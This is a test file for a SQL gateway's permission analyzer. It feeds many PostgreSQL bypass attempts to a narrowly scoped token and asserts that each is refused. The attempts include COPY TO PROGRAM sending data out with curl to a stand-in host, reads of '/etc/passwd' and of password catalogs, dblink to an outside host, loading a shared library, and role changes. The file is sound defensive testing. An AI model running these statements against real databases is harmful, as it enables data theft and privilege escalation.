// The attacker's list, at the analyzer: a token that may read public.orders
// (and, where the attack needs it, write public.scratch) tries to do anything
// else. Each attempt is refused, with the reason and the detail asserted. The
// same list runs through the wire, against the real database, in the gateway's
// suite.

import { beforeAll, describe, expect, it } from 'vitest';
import { compileGrant, parsePermissions, type ServiceCatalog } from '../../policy/index.js';
import { loadSqlParser, sqlScope, type SqlScope, type SqlVerdict } from './index.js';

const catalog: ServiceCatalog = { kindOf: (service) => (service === 'appdb' ? 'postgres' : undefined) };

function scopeOf(permissions: readonly string[], functions: readonly string[] = []): SqlScope {
  return sqlScope({ service: 'appdb', grant: compileGrant(parsePermissions(permissions, catalog, 'grant'), catalog), functions });
}

/** The token of every case: read public.orders; write (not ddl) public.scratch. */
const READER = ['appdb:select:public.orders', 'appdb:write:public.scratch', 'appdb:select:public.scratch'];

let scope: SqlScope;
beforeAll(async () => {
  await loadSqlParser();
  scope = scopeOf(READER);
});

type Expected = { reason: 'permission_denied' | 'invalid_request'; detail: string | RegExp; table?: string | null; kind?: string };

function expectRefused(verdict: SqlVerdict, expected: Expected): void {
  expect(verdict.allowed, JSON.stringify(verdict)).toBe(false);
  if (verdict.allowed) return;
  expect(verdict.reason).toBe(expected.reason);
  if (typeof expected.detail === 'string') expect(verdict.detail).toBe(expected.detail);
  else expect(verdict.detail).toMatch(expected.detail);
  if (expected.table !== undefined) expect(verdict.table).toBe(expected.table);
  if (expected.kind !== undefined) expect(verdict.kind).toBe(expected.kind);
}

const notGranted = (kind: string, action: string, table: string): Expected => ({
  reason: 'permission_denied', kind, table, detail: `${kind}: ${action} on ${table} is not granted (needs appdb:${action}:${table})`,
});
const fn = (kind: string, name: string): Expected => ({
  reason: 'permission_denied', kind, table: null,
  detail: `${kind}: function ${name} is not allowed (not a built-in side-effect-free function; the service may allow it: --sql-function ${name})`,
});
const never = (kind: string, detail: string | RegExp): Expected => ({ reason: 'permission_denied', kind, detail, table: null });

const CASES: ReadonlyArray<readonly [string, string, Expected]> = [
  // writes hidden in reads
  ['writable CTE (delete)', 'WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone', notGranted('select', 'delete', 'public.orders')],
  ['writable CTE (update) in a subquery', 'SELECT * FROM (WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u) s', notGranted('select', 'update', 'public.orders')],
  ['writable CTE (insert) nested in a CTE', 'WITH a AS (WITH b AS (INSERT INTO orders VALUES (1) RETURNING 1) SELECT * FROM b) SELECT * FROM a', notGranted('select', 'insert', 'public.orders')],
  ['a CTE named like the table it deletes', 'WITH orders AS (SELECT 1) DELETE FROM orders', notGranted('delete', 'delete', 'public.orders')],
  ['a CTE named like the table it inserts into', 'WITH orders AS (SELECT 1 AS id) INSERT INTO orders SELECT * FROM orders', notGranted('insert', 'insert', 'public.orders')],
  ['a CTE hiding a table under a granted name', 'WITH orders AS (SELECT * FROM customers) SELECT * FROM orders', notGranted('select', 'select', 'public.customers')],
  ['a non-recursive CTE reading the table of its own name', 'WITH customers AS (SELECT * FROM customers) SELECT * FROM customers', notGranted('select', 'select', 'public.customers')],
  ['a CTE name used outside its scope', 'SELECT * FROM (WITH customers AS (SELECT 1) SELECT * FROM customers) s, customers', notGranted('select', 'select', 'public.customers')],
  ['a later CTE seen by an earlier one without RECURSIVE', 'WITH a AS (SELECT * FROM customers), customers AS (SELECT 1) SELECT * FROM a', notGranted('select', 'select', 'public.customers')],
  ['WITH RECURSIVE walking another table', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, customers WHERE n < 3) SELECT * FROM r', notGranted('select', 'select', 'public.customers')],
  ['SELECT 1; DROP TABLE', 'SELECT 1; DROP TABLE orders', notGranted('ddl', 'ddl', 'public.orders')],
  ['a refused statement between allowed ones', 'SELECT * FROM orders; TRUNCATE orders; SELECT 1', notGranted('truncate', 'truncate', 'public.orders')],
  ['SELECT ... FOR UPDATE', 'SELECT * FROM orders FOR UPDATE', notGranted('select', 'update', 'public.orders')],
  ['SELECT ... FOR SHARE', 'SELECT * FROM orders WHERE id = 1 FOR SHARE', notGranted('select', 'update', 'public.orders')],
  ['FOR KEY SHARE OF an alias, through a subquery', 'SELECT * FROM (SELECT * FROM orders) o FOR KEY SHARE OF o', notGranted('select', 'update', 'public.orders')],
  ['FOR UPDATE in a cursor', 'DECLARE c CURSOR FOR SELECT * FROM orders FOR NO KEY UPDATE', notGranted('declare', 'update', 'public.orders')],
  ['INSERT ... SELECT from the granted table into another', 'INSERT INTO customers SELECT * FROM orders', notGranted('insert', 'insert', 'public.customers')],
  ['ON CONFLICT DO UPDATE', 'INSERT INTO scratch VALUES (1) ON CONFLICT (id) DO UPDATE SET id = (SELECT count(*) FROM customers)', notGranted('insert', 'select', 'public.customers')],
  ['RETURNING reads what was written', 'DELETE FROM scratch RETURNING (SELECT max(secret) FROM customers)', notGranted('delete', 'select', 'public.customers')],
  ['UPDATE ... FROM another table', 'UPDATE scratch SET id = c.id FROM customers c', notGranted('update', 'select', 'public.customers')],
  ['MERGE into a table not granted', 'MERGE INTO orders o USING scratch s ON o.id = s.id WHEN MATCHED THEN DELETE', notGranted('merge', 'delete', 'public.orders')],
  ['MERGE from a table not granted', 'MERGE INTO scratch s USING customers c ON s.id = c.id WHEN NOT MATCHED THEN INSERT VALUES (c.id)', notGranted('merge', 'select', 'public.customers')],
  // statements wrapped in statements
  ['EXPLAIN ANALYZE DELETE (runs it)', 'EXPLAIN ANALYZE DELETE FROM orders', notGranted('explain', 'delete', 'public.orders')],
  ['EXPLAIN (ANALYZE false) DELETE: authorized as if it ran', 'EXPLAIN (ANALYZE false) DELETE FROM orders', notGranted('explain', 'delete', 'public.orders')],
  ['CREATE TEMP TABLE AS', 'CREATE TEMP TABLE loot AS SELECT * FROM orders', notGranted('ddl', 'ddl', 'pg_temp.loot')],
  ['SELECT INTO creates a table', 'SELECT * INTO loot FROM orders', notGranted('select', 'ddl', 'public.loot')],
  ['CREATE VIEW over a table not granted', 'CREATE VIEW scratch_v AS SELECT * FROM customers', notGranted('ddl', 'ddl', 'public.scratch_v')],
  ['CREATE MATERIALIZED VIEW', 'CREATE MATERIALIZED VIEW m AS SELECT * FROM orders', notGranted('ddl', 'ddl', 'public.m')],
  ['COPY (DELETE ... RETURNING) TO STDOUT', 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', notGranted('copy', 'delete', 'public.orders')],
  ['COPY FROM STDIN into the granted read table', 'COPY orders FROM STDIN', notGranted('copy', 'insert', 'public.orders')],
  ['SQL-level PREPARE', 'PREPARE p AS SELECT * FROM orders', never('prepare', /^SQL-level PREPARE is refused/)],
  ['SQL-level EXECUTE', 'EXECUTE p(1)', never('execute', /^SQL-level EXECUTE is refused/)],
  ['CREATE TABLE AS EXECUTE', 'CREATE TABLE t AS EXECUTE p', { reason: 'invalid_request', kind: 'ddl', detail: 'ExecuteStmt is not SQL the gateway understands, so it is refused' }],
  ['EXPLAIN EXECUTE', 'EXPLAIN EXECUTE p', never('explain', /^SQL-level EXECUTE is refused/)],
  // functions with side effects or reach
  ['pg_terminate_backend', 'SELECT pg_terminate_backend(pid) FROM orders', fn('select', 'pg_terminate_backend')],
  ['pg_cancel_backend, qualified', 'SELECT pg_catalog.pg_cancel_backend(1)', fn('select', 'pg_catalog.pg_cancel_backend')],
  ['pg_read_file', "SELECT pg_read_file('/etc/passwd')", fn('select', 'pg_read_file')],
  ['pg_read_binary_file in a WHERE', "SELECT * FROM orders WHERE pg_read_binary_file('/etc/passwd') IS NOT NULL", fn('select', 'pg_read_binary_file')],
  ['pg_ls_dir', "SELECT * FROM pg_ls_dir('.')", fn('select', 'pg_ls_dir')],
  ['lo_import', "SELECT lo_import('/etc/passwd')", fn('select', 'lo_import')],
  ['lo_export', "SELECT lo_export(1, '/tmp/x')", fn('select', 'lo_export')],
  ['lo_get (large objects)', 'SELECT lo_get(1)', fn('select', 'lo_get')],
  ['dblink', "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", fn('select', 'dblink')],
  ['dblink_exec, schema-qualified', "SELECT public.dblink_exec('x')", fn('select', 'public.dblink_exec')],
  ['set_config', "SELECT set_config('search_path', 'evil', false)", fn('select', 'set_config')],
  ['set_config hidden in a subquery', "SELECT * FROM orders WHERE id IN (SELECT set_config('default_transaction_read_only', 'off', false)::int)", fn('select', 'set_config')],
  ['current_setting leaks settings', "SELECT current_setting('data_directory')", fn('select', 'current_setting')],
  ['pg_sleep (denial of service)', 'SELECT pg_sleep(3600)', fn('select', 'pg_sleep')],
  ['advisory locks', 'SELECT pg_advisory_lock(1)', fn('select', 'pg_advisory_lock')],
  ['txid_current assigns a transaction id', 'SELECT txid_current()', fn('select', 'txid_current')],
  ['nextval writes a sequence', "SELECT nextval('orders_id_seq')", fn('select', 'nextval')],
  ['query_to_xml runs a query in a string', "SELECT query_to_xml('select * from customers', true, true, '')", fn('select', 'query_to_xml')],
  ['a function in a DEFAULT of DDL', 'CREATE TABLE scratch2 (id int DEFAULT pg_backend_pid())', fn('ddl', 'pg_backend_pid')],
  ['a function in a CHECK of DDL', "ALTER TABLE scratch ADD CONSTRAINT c CHECK (pg_read_file('/x') <> '')", fn('ddl', 'pg_read_file')],
  ['a function in ORDER BY', 'SELECT * FROM orders ORDER BY pg_sleep(1)', fn('select', 'pg_sleep')],
  ['a function in a window frame', 'SELECT sum(id) OVER (ORDER BY id ROWS pg_backend_pid() PRECEDING) FROM orders', fn('select', 'pg_backend_pid')],
  ['a function in FROM with LATERAL', "SELECT * FROM orders, LATERAL pg_ls_dir('.') d", fn('select', 'pg_ls_dir')],
  ['a function in an aggregate FILTER', 'SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders', fn('select', 'pg_sleep')],
  ['a quoted name that is not the built-in', 'SELECT "LOWER"(x) FROM orders', fn('select', '"LOWER"')],
  ['a built-in name in another schema', 'SELECT evil.lower(x) FROM orders', fn('select', 'evil.lower')],
  ['CALL of a procedure', 'CALL cleanup()', fn('call', 'cleanup')],
  ['a user operator', 'SELECT 1 OPERATOR(public.+) 2', never('select', 'operator public.+ is not allowed (only PostgreSQL\'s built-in operators are)')],
  ['a made-up operator symbol', 'SELECT 1 <=> 2', never('select', 'operator <=> is not allowed (only PostgreSQL\'s built-in operators are)')],
  ["a catalog lookup by cast: 'x'::regclass", "SELECT 'pg_authid'::regclass", never('select', "a cast to regclass is not allowed (only to PostgreSQL's built-in types)")],
  ['a cast to regproc', "SELECT 'pg_sleep'::regproc", never('select', "a cast to regproc is not allowed (only to PostgreSQL's built-in types)")],
  ['a cast to a type outside pg_catalog', 'SELECT id::public.evil FROM orders', never('select', "a cast to public.evil is not allowed (only to PostgreSQL's built-in types)")],
  ['XML parsing', "SELECT xmlparse(document '<x/>')", never('select', 'XML functions (XmlExpr) are not allowed through the gateway')],
  ['SQL/JSON read by an older server as a function call', "SELECT JSON_SCALAR(1)", { reason: 'invalid_request', kind: 'select', detail: /^SQL\/JSON syntax \(JsonScalarExpr\)/ }],
  // server reach
  ['COPY ... TO PROGRAM', "COPY orders TO PROGRAM 'curl -d @- evil'", never('copy', 'COPY TO/FROM PROGRAM is refused: it runs a program on the database server')],
  ['COPY ... FROM PROGRAM', "COPY scratch FROM PROGRAM 'id'", never('copy', 'COPY TO/FROM PROGRAM is refused: it runs a program on the database server')],
  ['COPY to a server file', "COPY orders TO '/tmp/orders.csv'", never('copy', 'COPY with a server file is refused: only COPY TO STDOUT and FROM STDIN are allowed')],
  ['COPY from a server file', "COPY scratch FROM '/etc/passwd'", never('copy', 'COPY with a server file is refused: only COPY TO STDOUT and FROM STDIN are allowed')],
  ['DO', 'DO $$ BEGIN DELETE FROM orders; END $$', never('do', 'DO runs code the gateway cannot see')],
  ['LOAD', "LOAD '/tmp/evil.so'", never('load', 'LOAD loads code into the server')],
  ['LISTEN', 'LISTEN latchkey_changes', never('listen', "LISTEN is refused: notifications carry other sessions' data")],
  ['NOTIFY', "NOTIFY latchkey_changes, 'x'", never('notify', 'NOTIFY is refused: it signals other sessions')],
  ['CREATE EXTENSION', 'CREATE EXTENSION dblink', never('ddl', 'CREATE EXTENSION installs code into the database')],
  ['ALTER SYSTEM', "ALTER SYSTEM SET log_statement = 'none'", never('ddl', "ALTER SYSTEM changes the server's configuration")],
  ['CREATE FUNCTION', 'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders RETURNING 1 $$', never('ddl', 'CREATE FUNCTION and PROCEDURE define code the gateway cannot see')],
  ['CREATE RULE', 'CREATE RULE r AS ON SELECT TO scratch DO INSTEAD SELECT * FROM customers', never('ddl', "CREATE RULE rewrites other sessions' statements")],
  ['CREATE TRIGGER', 'CREATE TRIGGER t AFTER INSERT ON scratch EXECUTE FUNCTION evil()', never('ddl', "CREATE TRIGGER runs functions on other sessions' writes")],
  ['GRANT', 'GRANT ALL ON orders TO PUBLIC', never('grant', 'privileges are granted outside the gateway')],
  ['CREATE ROLE', 'CREATE ROLE evil SUPERUSER', never('ddl', 'roles are managed outside the gateway')],
  ['CREATE SUBSCRIPTION', "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", never('ddl', 'a subscription connects the server to another host')],
  ['PREPARE TRANSACTION', "PREPARE TRANSACTION 'x'", never('transaction', 'PREPARE TRANSACTION is refused: a prepared transaction outlives the session')],
  ['TRUNCATE ... CASCADE', 'TRUNCATE scratch CASCADE', never('truncate', 'TRUNCATE ... CASCADE is refused: it empties tables the statement does not name')],
  ['VACUUM of everything', 'VACUUM FULL', never('vacuum', 'VACUUM or ANALYZE of the whole database is refused: name the tables')],
  ['LOCK in ACCESS EXCLUSIVE mode', 'LOCK TABLE orders', notGranted('lock', 'ddl', 'public.orders')],
  // session state
  ['SET default_transaction_read_only = off', 'SET default_transaction_read_only = off', never('set', 'SET default_transaction_read_only is refused: the gateway sets the read-only state of the session')],
  ['SET transaction_read_only', 'SET transaction_read_only TO false', never('set', 'SET transaction_read_only is refused: the gateway sets the read-only state of the session')],
  ['SET search_path', 'SET search_path = evil, public', never('set', 'SET search_path is refused: the gateway pins search_path so that every name resolves as it authorized it')],
  ['SET LOCAL search_path', 'SET LOCAL search_path TO evil', never('set', 'SET search_path is refused: the gateway pins search_path so that every name resolves as it authorized it')],
  ['RESET search_path', 'RESET search_path', never('reset', 'RESET search_path is refused: the gateway pins search_path so that every name resolves as it authorized it')],
  ['RESET ALL', 'RESET ALL', never('reset', 'RESET ALL is refused: it would undo the settings the gateway pins')],
  ['DISCARD ALL', 'DISCARD ALL', never('discard', 'DISCARD ALL is refused: it would undo the settings the gateway pins')],
  ['SET ROLE', 'SET ROLE postgres', never('set', 'SET role is refused: SET ROLE would change who the session is')],
  ['RESET ROLE', 'RESET ROLE', never('reset', 'RESET role is refused: SET ROLE would change who the session is')],
  ['SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', never('set', 'SET session_authorization is refused: SET SESSION AUTHORIZATION would change who the session is')],
  ['SET SESSION CHARACTERISTICS', 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', never('set', "SET SESSION CHARACTERISTICS is refused: the gateway sets the session's transaction characteristics")],
  ['SET TRANSACTION READ WRITE', 'SET TRANSACTION READ WRITE', never('set', 'READ WRITE is refused: the gateway sets the read-only state of the session')],
  ['BEGIN READ WRITE', 'BEGIN READ WRITE', never('begin', 'READ WRITE is refused: the gateway sets the read-only state of the session')],
  ['START TRANSACTION ... READ WRITE after READ ONLY', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, READ WRITE', never('begin', 'READ WRITE is refused: the gateway sets the read-only state of the session')],
  ['SET client_encoding (the server would read other text)', "SET client_encoding = 'SJIS'", never('set', /^SET client_encoding is refused: the gateway parses the statement as UTF-8/)],
  ['SET NAMES', "SET NAMES 'BIG5'", never('set', /^SET client_encoding is refused/)],
  ['SET standard_conforming_strings', 'SET standard_conforming_strings = off', never('set', /^SET standard_conforming_strings is refused/)],
  ['a custom setting read by row-level security', "SET app.tenant_id = '42'", never('set', 'SET app.tenant_id is refused: not a setting the gateway lets a client change')],
  ['SET session_replication_role (skips triggers)', 'SET session_replication_role = replica', never('set', 'SET session_replication_role is refused: not a setting the gateway lets a client change')],
  ['SHOW ALL', 'SHOW ALL', never('show', 'SHOW all is refused: settings can tell more than the grant does')],
  ['SHOW a file path', 'SHOW data_directory', never('show', 'SHOW data_directory is refused: settings can tell more than the grant does')],
  // names: quoting, case, spacing, comments, catalogs
  ['a quoted name is another table', 'SELECT * FROM "Orders"', notGranted('select', 'select', 'public."Orders"')],
  ['another schema', 'SELECT * FROM secret.orders', notGranted('select', 'select', 'secret.orders')],
  ['another schema, spaced and commented', 'SELECT * FROM secret /* x */ . /* y */ orders', notGranted('select', 'select', 'secret.orders')],
  ['TABLE of another table', 'TABLE customers', notGranted('select', 'select', 'public.customers')],
  ['an unqualified system catalog', 'SELECT rolpassword FROM pg_authid', notGranted('select', 'select', 'pg_catalog.pg_authid')],
  ['pg_shadow', 'SELECT passwd FROM pg_catalog.pg_shadow', notGranted('select', 'select', 'pg_catalog.pg_shadow')],
  ['pg_stat_activity (other sessions\' queries)', 'SELECT query FROM pg_stat_activity', notGranted('select', 'select', 'pg_catalog.pg_stat_activity')],
  ['a table named in a dollar-quoted string is not hidden by it', "SELECT $q$ FROM orders $q$, * FROM customers", notGranted('select', 'select', 'public.customers')],
  ['a comment hiding nothing', 'SELECT * FROM orders -- ; DROP TABLE orders\n; DELETE FROM orders', notGranted('delete', 'delete', 'public.orders')],
  ['a nested comment', 'SELECT /* /* */ DELETE FROM orders */ 1; DELETE FROM orders', notGranted('delete', 'delete', 'public.orders')],
  ['a unicode-escaped identifier', 'SELECT * FROM U&"cust\\006fmers"', notGranted('select', 'select', 'public.customers')],
  ['a three-part name', 'SELECT * FROM otherdb.public.orders', never('select', 'a three-part name (otherdb.public.orders) is not allowed; name schema.table')],
  ['an identifier past 63 bytes is truncated as PostgreSQL does', `SELECT * FROM customers${'x'.repeat(60)}`, notGranted('select', 'select', `public.customers${'x'.repeat(54)}`)],
  ['a join to a table not granted', 'SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id', notGranted('select', 'select', 'public.customers')],
  ['a scalar subquery on a table not granted', 'SELECT (SELECT max(secret) FROM customers) FROM orders', notGranted('select', 'select', 'public.customers')],
  ['EXISTS on a table not granted', 'SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM customers WHERE secret LIKE \'a%\')', notGranted('select', 'select', 'public.customers')],
  ['UNION with a table not granted', 'SELECT id FROM orders UNION ALL SELECT id FROM customers', notGranted('select', 'select', 'public.customers')],
  ['TABLESAMPLE with a custom method', 'SELECT * FROM orders TABLESAMPLE evil(1)', never('select', 'TABLESAMPLE evil is not allowed (only system and bernoulli)')],
  ['XMLTABLE in FROM', "SELECT * FROM XMLTABLE('/x' PASSING '<x/>' COLUMNS a int)", { reason: 'invalid_request', kind: 'select', detail: 'RangeTableFunc is not SQL the gateway understands, so it is refused' }],
  ['a user type converting a function\'s output', "SELECT * FROM json_to_record('{}') AS t(x public.evil)", never('select', "a cast to public.evil is not allowed (only to PostgreSQL's built-in types)")],
  ['a function reached by named arguments', 'SELECT pg_sleep(seconds => 10)', fn('select', 'pg_sleep')],
  // malformed
  ['does not parse', 'SELEC * FROM orders', { reason: 'invalid_request', kind: 'unknown', detail: /^the statement does not parse/ }],
  ['a NUL byte', 'SELECT * FROM orders\u0000; DROP TABLE orders', { reason: 'invalid_request', kind: 'unknown', detail: 'the statement holds a NUL character' }],
  ['a NUL byte after an allowed statement already cached', 'SELECT * FROM scratch\u0000; DROP TABLE orders', { reason: 'invalid_request', kind: 'unknown', detail: 'the statement holds a NUL character' }],
];

/** A token that may change its own scratch tables (ddl) and read public.orders: DDL that reaches further is refused. */
const BUILDER = ['appdb:ddl:public.scratch*', 'appdb:select:public.orders'];

const DDL_CASES: ReadonlyArray<readonly [string, string, Expected]> = [
  ['INHERIT a table (its rows join the parent)', 'ALTER TABLE scratch INHERIT orders', notGranted('ddl', 'ddl', 'public.orders')],
  ['a partition of a table', 'CREATE TABLE scratch_p PARTITION OF orders FOR VALUES IN (1)', notGranted('ddl', 'ddl', 'public.orders')],
  ['ATTACH PARTITION of a table', 'ALTER TABLE scratch ATTACH PARTITION orders FOR VALUES IN (1)', notGranted('ddl', 'ddl', 'public.orders')],
  ['a foreign key onto a table (triggers on it)', 'CREATE TABLE scratch_f (id int REFERENCES orders (id))', notGranted('ddl', 'ddl', 'public.orders')],
  ['RENAME onto a table\'s name', 'ALTER TABLE scratch RENAME TO orders', notGranted('ddl', 'ddl', 'public.orders')],
  ['SET SCHEMA elsewhere', 'ALTER TABLE scratch SET SCHEMA evil', notGranted('ddl', 'ddl', 'evil.scratch')],
  ['a view over a table not granted', 'CREATE VIEW scratch_v AS SELECT * FROM customers', notGranted('ddl', 'select', 'public.customers')],
  ['CREATE TABLE (LIKE ...) copying a table not granted', 'CREATE TABLE scratch_l (LIKE customers INCLUDING ALL)', notGranted('ddl', 'select', 'public.customers')],
  ['an index on a function with side effects', 'CREATE INDEX ON scratch ((pg_backend_pid()))', fn('ddl', 'pg_backend_pid')],
  ['a generated column calling a function', 'ALTER TABLE scratch ADD COLUMN g int GENERATED ALWAYS AS (pg_backend_pid()) STORED', fn('ddl', 'pg_backend_pid')],
  ['ALTER COLUMN ... USING a function', "ALTER TABLE scratch ALTER COLUMN id TYPE text USING pg_read_file('/etc/passwd')", fn('ddl', 'pg_read_file')],
  ['DROP ... CASCADE', 'DROP TABLE scratch CASCADE', never('ddl', 'DROP ... CASCADE is refused: it reaches objects the statement does not name')],
  ['ALTER ... OWNER TO', 'ALTER TABLE scratch OWNER TO postgres', never('ddl', 'ALTER ... OWNER TO is refused: ownership is managed outside the gateway')],
  ['DROP of a function', 'DROP FUNCTION scratch_f()', never('ddl', 'DROP of function objects is refused: only tables, views, indexes and sequences')],
];

describe('the SQL bypass suite: DDL that reaches past its tables is refused', () => {
  it.each(DDL_CASES)('%s', (_name, sql, expected) => {
    expectRefused(scopeOf(BUILDER).authorize(sql), expected);
  });

  it('still allows DDL on its own tables', () => {
    const builder = scopeOf(BUILDER);
    for (const sql of [
      'CREATE TABLE scratch_new (id int PRIMARY KEY, note text DEFAULT lower(\'X\') CHECK (length(note) < 100))',
      'CREATE TABLE scratch_copy AS SELECT * FROM orders', 'CREATE INDEX scratch_idx ON scratch (lower(note))',
      'ALTER TABLE scratch ADD COLUMN extra int', 'ALTER TABLE scratch RENAME TO scratch_old', 'DROP TABLE scratch_old',
      'CREATE VIEW scratch_v AS SELECT id FROM orders', 'VACUUM ANALYZE scratch', "SELECT make_interval(days => 1)",
    ]) expect(builder.authorize(sql), sql).toMatchObject({ allowed: true });
  });
});

describe('the SQL bypass suite: every attempt is refused', () => {
  it.each(CASES)('%s', (_name, sql, expected) => {
    // The benign prefix of every case is in the cache first, so a key that ignored the rest would show.
    scope.authorize('SELECT * FROM scratch');
    expectRefused(scope.authorize(sql), expected);
    // Asked again (a cache hit where the string parses), the verdict is the same.
    expectRefused(scope.authorize(sql), expected);
  });

  it('still allows what the token is for, so the refusals above are about the attack', () => {
    for (const sql of [
      'SELECT * FROM orders', 'SELECT * FROM ORDERS', 'select * from public . orders', 'SELECT * FROM "orders"', 'TABLE orders',
      'WITH o AS (SELECT * FROM orders) SELECT count(*) FROM o', 'SELECT * FROM orders /* comment */ WHERE id = $1',
      "SELECT $q$ DELETE FROM orders $q$ FROM orders", 'BEGIN READ ONLY', 'SET statement_timeout = 5000', 'SHOW server_version',
      'COPY orders TO STDOUT', 'EXPLAIN SELECT * FROM orders', 'INSERT INTO scratch SELECT id FROM orders',
      'DELETE FROM scratch WHERE id IN (SELECT id FROM orders) RETURNING id', 'LOCK TABLE orders IN ACCESS SHARE MODE',
    ]) expect(scope.authorize(sql), sql).toMatchObject({ allowed: true });
  });

  it('a deeply nested expression is refused, not a crash', () => {
    const verdict = scope.authorize(`SELECT ${'abs('.repeat(3000)}1${')'.repeat(3000)}`);
    expect(verdict.allowed).toBe(false);
    if (!verdict.allowed) expect(verdict.reason).toBe('invalid_request');
  });
});
